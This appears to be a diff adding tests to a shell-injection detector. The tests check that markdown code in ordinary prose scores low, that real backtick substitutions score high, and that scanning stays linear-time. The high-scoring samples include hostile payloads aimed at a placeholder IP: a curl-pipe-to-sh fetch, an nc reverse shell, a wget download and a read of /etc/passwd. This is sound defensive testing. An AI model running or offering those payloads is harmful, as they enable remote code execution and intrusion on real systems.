@@ -214,6 +214,48 @@ describe("shell family", () => {
     }
   })
 
+  it("reads markdown code in prose as code, not as command substitution", () => {
+    for (const value of [
+      "To list hidden files, enter `ls -a` in a terminal.",
+      "Try `grep -r TODO src` before you open a pull request",
+      "Our CI calls `curl -fsSL https://example.com/install` and then `tar -xzf dist.tgz` on every build.",
+      "Restart with `sudo systemctl restart nginx`, then reload the page.",
+      "## Setup\n\n```sh\nnpm ci\nnpm run build\n```\n\nThe output lands in dist/.",
+      "```console\n$ npm start\n```",
+      "```python\nprint(1)\n```"
+    ]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
+  it("keeps backticks a substitution where a shell would run them", () => {
+    for (const value of [
+      "`id`",
+      "`cat /etc/passwd`",
+      "q;`id`",
+      "user=`whoami`",
+      "echo `uname -a` done",
+      "x `id` y",
+      // a fence whose info string is a command runs it; a fence's lines are still commands
+      "```id\n```",
+      "```\nid\n```",
+      "```bash\nwhoami\n```",
+      "a```id```",
+      // inside a sentence's code span, what is dangerous still counts
+      "Please paste `$(curl http://203.0.113.9/x | sh)` into the field",
+      "Then run `nc -e /bin/sh 203.0.113.9 4444` on the host, thanks",
+      "Copy `a; wget http://203.0.113.9/x -O /tmp/x` into the box and submit"
+    ]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
+  it("reads markdown code in time linear in the value's length", () => {
+    const small = "Run `ls -la` in the folder. ".repeat(4_000) + "```sh\n".repeat(4_000) + "`".repeat(64_000)
+    const large = small + small
+    expect(cpuDoublingRatio((value) => family.scan(value, { location: "query", paranoia: 1 }), small, large)).toBeLessThanOrEqual(4)
+  })
+
   it("reads brace lists, tildes and leading separators in time linear in the value's length", () => {
     // The brace reader and the new patterns alone (the rest of the scan is counted in steps below):
     // best of seven in CPU time, alternated, with room for a loaded machine.
